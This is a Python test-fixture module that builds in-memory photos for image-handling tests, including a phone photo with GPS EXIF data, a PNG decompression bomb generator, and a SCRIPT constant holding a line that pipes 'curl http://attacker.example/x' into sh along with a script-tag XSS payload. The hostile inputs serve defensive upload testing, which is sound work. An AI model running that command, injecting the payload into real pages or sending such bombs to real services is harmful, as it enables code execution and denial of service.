"""Photos as phones and attackers send them, made in memory for the photo tests."""

import io
import struct
import zlib

from PIL import Image

#: a place anyone could find: the GPS position a phone writes into a photo's EXIF
LATITUDE = (51.0, 30.0, 12.5)
ORIENTATION_ROTATED = 6  # the camera was turned: show the pixels rotated 90° clockwise


def phone_photo(fmt="JPEG", size=(80, 60), color=(200, 40, 40)):
    """A photo as a phone saves it: GPS position, camera make, a comment and an orientation in its EXIF; stored
    sideways (``size`` as the sensor saw it), to be shown turned upright."""
    if fmt == "HEIF":
        from pillow_heif import register_heif_opener

        register_heif_opener()
    image = Image.new("RGB", size, color)
    image.paste((20, 20, 220), (0, 0, size[0] // 4, size[1] // 4))  # a mark in one corner
    exif = Image.Exif()
    exif[0x0112] = ORIENTATION_ROTATED
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x9286] = "private comment"  # UserComment, in the Exif IFD on real phones; here in IFD0
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", LATITUDE, "W", (0.0, 7.0, 39.9)
    out = io.BytesIO()
    image.save(out, fmt, exif=exif.tobytes())
    return out.getvalue()


def png(size=(40, 30)):
    out = io.BytesIO()
    Image.new("RGBA", size, (10, 200, 10, 128)).save(out, "PNG")
    return out.getvalue()


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def decompression_bomb(side=40_000):
    """A PNG of a few kilobytes that declares ``side`` × ``side`` pixels (1.6 billion by default) of zeros."""
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)  # 8-bit greyscale
    compressor = zlib.compressobj(9)
    row = b"\x00" * (side + 1)
    body = b"".join(compressor.compress(row) for _ in range(200)) + compressor.flush()
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n<script>alert(1)</script>\n"
